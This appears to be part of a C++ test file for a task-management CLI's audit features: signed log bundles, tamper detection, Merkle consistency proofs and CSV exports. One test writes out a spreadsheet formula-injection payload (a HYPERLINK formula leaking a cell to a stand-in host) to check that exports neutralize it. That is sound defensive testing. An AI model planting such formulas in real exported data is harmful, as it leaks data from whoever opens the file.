std::string TempFile(const std::string& name) {
  return absl::StrCat(::testing::TempDir(), "taskgate-audit-", ::getpid(), "-",
                      name);
}

void WriteFile(const std::string& path, const std::string& content) {
  std::ofstream file(path, std::ios::binary | std::ios::trunc);
  file << content;
}

std::string ReadFile(const std::string& path) {
  std::ifstream file(path, std::ios::binary);
  std::stringstream text;
  text << file.rdbuf();
  return text.str();
}

// RFC 4180 records: quoted fields may hold commas, doubled quotes and line
// breaks; records end in CRLF.
std::vector<std::vector<std::string>> ParseCsv(const std::string& text) {
  std::vector<std::vector<std::string>> records;
  std::vector<std::string> record;
  std::string field;
  bool quoted = false;
  for (size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
        field += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      record.push_back(std::move(field));
      field.clear();
    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      record.push_back(std::move(field));
      field.clear();
      records.push_back(std::move(record));
      record.clear();
      ++i;
    } else {
      field += c;
    }
  }
  EXPECT_TRUE(field.empty() && record.empty()) << "unterminated CSV record";
  return records;
}

// A whole log of `n` events of district d1 as `audit export` writes it,
// with its checkpoint signed by `key`.
std::string WholeLogBundle(const audit::SigningKey& key, int n) {
  audit::Bundle b;
  b.district_id = "d1";
  b.exported_at = absl::FromUnixSeconds(1790000000);
  b.exported_by = "inspector";
  b.first_seq = 1;
  b.last_seq = n;
  std::vector<audit::Hash> leaves;
  for (int seq = 1; seq <= n; ++seq) {
    domain::AuditEvent e;
    e.district_id = "d1";
    e.seq = seq;
    e.time = absl::FromUnixSeconds(1790000000 + seq * 60);
    e.actor_id = "clerk-civil";
    e.actor_role = domain::Role::kDepartment;
    e.action = "task.submit";
    e.entity_type = "task";
    e.entity_id = absl::StrCat("t-", seq);
    e.state_before = "DRAFT";
    e.state_after = "SUBMITTED";
    e.reason = "每月走访, as agreed";
    e.request_id = absl::StrCat("req-", seq);
    e.department_id = "civil-affairs";
    e.community_ids = {"c1"};
    e.details = {{"hours", "4"}};
    const std::string bytes = audit::EncodeAuditEvent(e);
    const audit::Hash leaf = audit::LeafHash(bytes);
    leaves.push_back(leaf);
    b.events.push_back(
        {seq, bytes, std::string(leaf.begin(), leaf.end()), std::nullopt});
  }
  absl::StatusOr<audit::Checkpoint> head = audit::SignCheckpoint(
      audit::LogIdOf("d1"), n, audit::RootFromLeafHashes(leaves),
      absl::FromUnixSeconds(1790000000 + n * 60), key);
  EXPECT_TRUE(head.ok()) << head.status();
  if (head.ok()) b.checkpoint = *head;
  return audit::BundleToJson(b);
}

// `audit verify` as an inspector runs it: no address, no token, no config.
class CliVerifyTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_OK_AND_ASSIGN(audit::SigningKey key, audit::SigningKey::Generate());
    WriteFile(pubkey_, key.PublicKeyPem());
    WriteFile(bundle_, WholeLogBundle(key, 5));
  }
  void TearDown() override {
    for (const std::string* p : {&pubkey_, &bundle_}) std::remove(p->c_str());
  }

  Result Verify() {
    return RunTaskgate({"audit", "verify", bundle_, "--pubkey", pubkey_});
  }

  std::string pubkey_ = TempFile("key.pem");
  std::string bundle_ = TempFile("bundle.json");
};

TEST_F(CliVerifyTest, GoodBundleVerifiesWithNoServerConfigured) {
  const Result r = Verify();
  EXPECT_EQ(r.code, 0) << r.out << r.err;
  EXPECT_THAT(r.out, HasSubstr("\nVERIFIED: 5 events (seq 1..5)\n"));
  EXPECT_EQ(r.err, "");
}

TEST_F(CliVerifyTest, ChangedCanonicalByteFailsNamingItsSeq) {
  nlohmann::json doc = nlohmann::json::parse(ReadFile(bundle_));
  std::string hex = doc["events"][2]["canonical"];
  // One byte in the middle of event 3's encoding, its hex digit changed.
  const size_t at = hex.size() / 2;
  hex[at] = hex[at] == '0' ? '1' : '0';
  doc["events"][2]["canonical"] = hex;
  WriteFile(bundle_, doc.dump(2));
  const Result r = Verify();
  EXPECT_EQ(r.code, kExitVerificationFailed) << r.out << r.err;
  EXPECT_EQ(r.code, 8);
  EXPECT_THAT(r.out, HasSubstr("\nFAILED: first bad event is seq 3\n"));
  EXPECT_THAT(r.out, ::testing::Not(HasSubstr("VERIFIED")));
}

TEST_F(CliVerifyTest, WrongPublicKeyFails) {
  ASSERT_OK_AND_ASSIGN(audit::SigningKey other, audit::SigningKey::Generate());
  WriteFile(pubkey_, other.PublicKeyPem());
  const Result r = Verify();
  EXPECT_EQ(r.code, 8) << r.out << r.err;
  EXPECT_THAT(r.out, HasSubstr("\nFAILED: "));
  EXPECT_THAT(r.out, ::testing::Not(HasSubstr("VERIFIED")));
}

TEST_F(CliVerifyTest, MalformedBundleIsAUsageErrorNamingTheFile) {
  WriteFile(bundle_, "{\"format\": \"taskgate-audit-bundle/v1\"}");
  const Result r = Verify();
  EXPECT_EQ(r.code, 2);
  EXPECT_THAT(r.err, HasSubstr(absl::StrCat("error: ", bundle_,
                                            " is not a valid bundle: ")));
  EXPECT_THAT(r.err, HasSubstr("district_id is missing"));
  EXPECT_EQ(r.out, "");
}

TEST_F(CliVerifyTest, MissingPublicKeyFileIsAUsageError) {
  const Result r = RunTaskgate(
      {"audit", "verify", bundle_, "--pubkey", TempFile("no-such.pem")});
  EXPECT_EQ(r.code, 2);
  EXPECT_THAT(r.err,
              HasSubstr(absl::StrCat("cannot read ", TempFile("no-such.pem"))));
}

TEST_F(CliVerifyTest, PrivateKeyGivenAsPublicKeyIsAUsageError) {
  const std::string path = TempFile("private.pem");
  bool created = false;
  ASSERT_TRUE(audit::SigningKey::LoadOrCreate(path, &created).ok());
  const Result r = RunTaskgate({"audit", "verify", bundle_, "--pubkey", path});
  std::remove(path.c_str());
  EXPECT_EQ(r.code, 2);
  EXPECT_THAT(r.err,
              HasSubstr(absl::StrCat(path, " is not the server's public key")));
}

// Against the server: what the inspector keeps, exports and checks.
class CliAuditTest : public CliTest {
 protected:
  void TearDown() override {
    for (const std::string& p : files_) std::remove(p.c_str());
    CliTest::TearDown();
  }
  std::string File(const std::string& name) {
    files_.push_back(TestPath(absl::StrCat("-", name)));
    return files_.back();
  }
  std::vector<std::string> files_;
};

TEST_F(CliAuditTest, ExportedBundleVerifiesOfflineAgainstAKeptCheckpoint) {
  ActiveTask();
  const std::string key = File("key.pem");
  const std::string kept = File("kept.json");
  const std::string bundle = File("bundle.json");
  const Result pub = Run(auditor_, {"audit", "pubkey", "--out", key});
  ASSERT_EQ(pub.code, 0) << pub.err;
  EXPECT_THAT(pub.err, HasSubstr("key id "));
  const Result keep =
      Run(auditor_, {"audit", "checkpoint", "--pubkey", key, "--out", kept});
  ASSERT_EQ(keep.code, 0) << keep.err;
  EXPECT_THAT(keep.out, HasSubstr("signature verified"));
  ASSERT_OK_AND_ASSIGN(audit::Checkpoint kept_head,
                       audit::CheckpointFromJson(ReadFile(kept)));

  ActiveTask();
  const Result exported =
      Run(auditor_, {"audit", "export", "--checkpoint", kept, "--out", bundle});
  ASSERT_EQ(exported.code, 0) << exported.err;
  ASSERT_OK_AND_ASSIGN(audit::Bundle read,
                       audit::BundleFromJson(ReadFile(bundle)));
  ASSERT_GT(read.last_seq, kept_head.tree_size);
  EXPECT_EQ(read.first_seq, 1);
  EXPECT_EQ(read.events.size(), static_cast<size_t>(read.last_seq));
  EXPECT_EQ(read.consistency_from, kept_head.tree_size);
  EXPECT_EQ(exported.out,
            absl::StrCat("exported ", read.last_seq, " events (seq 1..",
                         read.last_seq, ") with checkpoint of size ",
                         read.checkpoint.tree_size, " to ", bundle, "\n"));

  // Offline: no address, no token.
  const Result ok = RunTaskgate(
      {"audit", "verify", bundle, "--pubkey", key, "--checkpoint", kept});
  EXPECT_EQ(ok.code, 0) << ok.out << ok.err;
  EXPECT_THAT(ok.out, HasSubstr(absl::StrCat("\nVERIFIED: ", read.last_seq,
                                             " events (seq 1..", read.last_seq,
                                             ")\n")));

  nlohmann::json doc = nlohmann::json::parse(ReadFile(bundle));
  std::string hex = doc["events"][1]["canonical"];
  hex[hex.size() / 2] = hex[hex.size() / 2] == 'a' ? 'b' : 'a';
  doc["events"][1]["canonical"] = hex;
  WriteFile(bundle, doc.dump(2));
  const Result bad = RunTaskgate(
      {"audit", "verify", bundle, "--pubkey", key, "--checkpoint", kept});
  EXPECT_EQ(bad.code, 8) << bad.out << bad.err;
  EXPECT_THAT(bad.out, HasSubstr("\nFAILED: first bad event is seq 2\n"));
}

TEST_F(CliAuditTest, SliceOfATimeRangeVerifiesWithItsRangeProof) {
  ActiveTask();
  clock_.Advance(absl::Hours(24));  // 2026-03-03
  const std::string id = ActiveTask();
  const std::string key = File("key.pem");
  const std::string bundle = File("slice.json");
  ASSERT_EQ(Run(auditor_, {"audit", "pubkey", "--out", key}).code, 0);
  const Result exported =
      Run(auditor_, {"audit", "export", "--from", "2026-03-03", "--to",
                     "2026-03-04", "--out", bundle});
  ASSERT_EQ(exported.code, 0) << exported.err;
  ASSERT_OK_AND_ASSIGN(audit::Bundle read,
                       audit::BundleFromJson(ReadFile(bundle)));
  EXPECT_GT(read.first_seq, 1);
  ASSERT_FALSE(read.events.empty());
  bool has_task = false;
  for (const audit::BundleEvent& e : read.events) {
    ASSERT_TRUE(e.readable.has_value());
    EXPECT_GE(e.readable->time, e2e::At(2026, 3, 3, 0));
    has_task = has_task || e.readable->entity_id == id;
  }
  EXPECT_TRUE(has_task);
  const Result ok = RunTaskgate({"audit", "verify", bundle, "--pubkey", key});
  EXPECT_EQ(ok.code, 0) << ok.out << ok.err;
  EXPECT_THAT(ok.out, HasSubstr("\nVERIFIED: "));
}

TEST_F(CliAuditTest, BundleRefusesFiltersAndNeedsAnOutputFile) {
  Result r = Run(auditor_, {"audit", "export"});
  EXPECT_EQ(r.code, 2);
  EXPECT_THAT(r.err, HasSubstr("--out FILE"));
  r = Run(auditor_, {"audit", "export", "--task", "t-1", "--out", "x"});
  EXPECT_EQ(r.code, 2);
  EXPECT_THAT(r.err, HasSubstr("--format csv or json"));
}

TEST_F(CliAuditTest, ConsistencyUsesTheKeptRoot) {
  ActiveTask();
  const std::string kept = File("kept.json");
  ASSERT_EQ(Run(auditor_, {"audit", "checkpoint", "--out", kept}).code, 0);
  ActiveTask();
  const Result ok =
      Run(auditor_, {"audit", "consistency", "--checkpoint", kept});
  EXPECT_EQ(ok.code, 0) << ok.err;
  EXPECT_THAT(ok.out, HasSubstr("VERIFIED: the tree of size "));
  EXPECT_THAT(ok.out, HasSubstr(", the one you kept) is a prefix of"));

  const Result proof =
      Run(auditor_, {"audit", "proof", "--seq", "1", "--checkpoint", kept});
  EXPECT_EQ(proof.code, 0) << proof.err;
  EXPECT_THAT(proof.out, HasSubstr("VERIFIED: seq 1 is included in the tree"));

  // A kept root the server's log does not extend: a rewritten history.
  nlohmann::json doc = nlohmann::json::parse(ReadFile(kept));
  std::string root = doc["root_hash"];
  root[0] = root[0] == 'f' ? 'e' : 'f';
  doc["root_hash"] = root;
  WriteFile(kept, doc.dump(2));
  const Result forked =
      Run(auditor_, {"audit", "consistency", "--checkpoint", kept});
  EXPECT_EQ(forked.code, 8) << forked.out << forked.err;
  EXPECT_THAT(forked.err, HasSubstr("FAILED: "));
  EXPECT_THAT(forked.err, HasSubstr(root));
  const Result not_included =
      Run(auditor_, {"audit", "proof", "--seq", "1", "--checkpoint", kept});
  EXPECT_EQ(not_included.code, 8) << not_included.out << not_included.err;
  EXPECT_THAT(not_included.err, HasSubstr("FAILED: the proof does not show"));
}

TEST_F(CliAuditTest, EventsCsvQuotesTheReasonAndHasOneRowPerEvent) {
  const std::string id = SubmittedTask(CleanAssistSpec(), &reviewer_);
  const std::string reason = "缺少经费, see \"R-FUNDING\"\nthen resubmit";
  ASSERT_OK_AND_ASSIGN(v1::Task returned,
                       Act(reviewer_, e2e::Step::kReturn, id, reason));
  const Result r =
      Run(auditor_, {"audit", "events", "--task", id, "--output", "csv"});
  ASSERT_EQ(r.code, 0) << r.err;
  const std::vector<std::vector<std::string>> rows = ParseCsv(r.out);
  ASSERT_FALSE(rows.empty());
  EXPECT_THAT(rows[0], ElementsAre("seq", "time", "actor_id", "actor_role",
                                   "action", "entity_type", "entity_id",
                                   "state_before", "state_after", "reason",
                                   "request_id", "department_id",
                                   "community_ids", "details", "leaf_hash"));
  const std::vector<std::string> actions = TaskActions(id);
  ASSERT_EQ(rows.size(), actions.size() + 1);
  const std::vector<std::string>* returned_row = nullptr;
  for (size_t i = 1; i < rows.size(); ++i) {
    ASSERT_EQ(rows[i].size(), 15u) << "row " << i;
    EXPECT_EQ(rows[i][4], actions[i - 1]);
    EXPECT_EQ(rows[i][6], id);
    EXPECT_EQ(rows[i][14].size(), 64u);
    if (rows[i][4] == "task.return") returned_row = &rows[i];
  }
  ASSERT_NE(returned_row, nullptr);
  EXPECT_EQ((*returned_row)[9], reason);
  EXPECT_EQ((*returned_row)[3], "reviewer");
  EXPECT_EQ((*returned_row)[1], "2026-03-02T01:00:00Z");
  EXPECT_EQ((*returned_row)[12], "c1");

  const std::string file = File("events.csv");
  const Result exported = Run(auditor_, {"audit", "export", "--format", "csv",
                                         "--task", id, "--out", file});
  ASSERT_EQ(exported.code, 0) << exported.err;
  EXPECT_EQ(ReadFile(file), r.out);
}

TEST_F(CliAuditTest, EventsCsvNeutralizesCellsThatWouldRunAsFormulas) {
  const std::string id = SubmittedTask(CleanAssistSpec(), &reviewer_);
  const std::string reason =
      "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"see the rules\")";
  ASSERT_OK_AND_ASSIGN(v1::Task returned,
                       Act(reviewer_, e2e::Step::kReturn, id, reason));
  const Result r =
      Run(auditor_, {"audit", "events", "--task", id, "--output", "csv"});
  ASSERT_EQ(r.code, 0) << r.err;
  const std::string file = File("formula.csv");
  const Result exported = Run(auditor_, {"audit", "export", "--format", "csv",
                                         "--task", id, "--out", file});
  ASSERT_EQ(exported.code, 0) << exported.err;
  EXPECT_EQ(ReadFile(file), r.out);
  bool found = false;
  for (const std::vector<std::string>& row : ParseCsv(r.out)) {
    for (const std::string& cell : row) {
      EXPECT_TRUE(cell.empty() || std::string_view("=+-@").find(cell[0]) ==
                                      std::string_view::npos)
          << cell;
    }
    if (row.size() > 9 && row[4] == "task.return") {
      EXPECT_EQ(row[9], "'" + reason);
      found = true;
    }
  }
  EXPECT_TRUE(found) << r.out;
}

TEST_F(CliAuditTest, EventsFilterByTheStateEntered) {
  const std::string id = ActiveTask();
  SubmittedTask(CleanAssistSpec());  // SUBMITTED, never ACTIVE
  const Result r = Run(
      auditor_, {"audit", "events", "--state", "ACTIVE", "--output", "json"});
  ASSERT_EQ(r.code, 0) << r.err;
  std::vector<std::string> entities;
  const nlohmann::json listed = nlohmann::json::parse(r.out);
  for (const auto& e : listed["items"]) {
    EXPECT_EQ(e["state_after"], "ACTIVE");
    entities.push_back(e["entity_id"]);
  }
  EXPECT_THAT(entities, ElementsAre(id));
}

TEST_F(CliAuditTest, StatsJsonHasTheDepartments) {
  ActiveTask();
  const Result r = Run(auditor_, {"audit", "stats", "--from", "2026-03-01",
                                  "--to", "2026-04-01", "--output", "json"});
  ASSERT_EQ(r.code, 0) << r.err;
  const nlohmann::json j = nlohmann::json::parse(r.out);
  ASSERT_TRUE(j["departments"].is_array()) << r.out;
  const nlohmann::json* civil = nullptr;
  for (const auto& d : j["departments"]) {
    if (d["department_id"] == "civil-affairs") civil = &d;
  }
  ASSERT_NE(civil, nullptr) << r.out;
  EXPECT_EQ((*civil)["submitted"], 1);
  EXPECT_EQ((*civil)["admitted"], 1);
  EXPECT_EQ((*civil)["admitted_by_duty_list"], 1);

  const Result table = Run(auditor_, {"audit", "stats", "--from", "2026-03-01",
                                      "--to", "2026-04-01"});
  ASSERT_EQ(table.code, 0) << table.err;
  EXPECT_THAT(table.out, HasSubstr("Departments\nDEPARTMENT"));
  EXPECT_THAT(table.out, HasSubstr("\ncivil-affairs "));
  EXPECT_THAT(table.out, HasSubstr("\nBurden kept out of the communities\n"));
}

TEST_F(CliAuditTest, StatsNeedsTheTimeRange) {
  const Result r = Run(auditor_, {"audit", "stats", "--from", "2026-03-01"});
  EXPECT_EQ(r.code, 2);
  EXPECT_THAT(r.err, HasSubstr("--to is required"));
}

}  // namespace
}  // namespace taskgate::clients
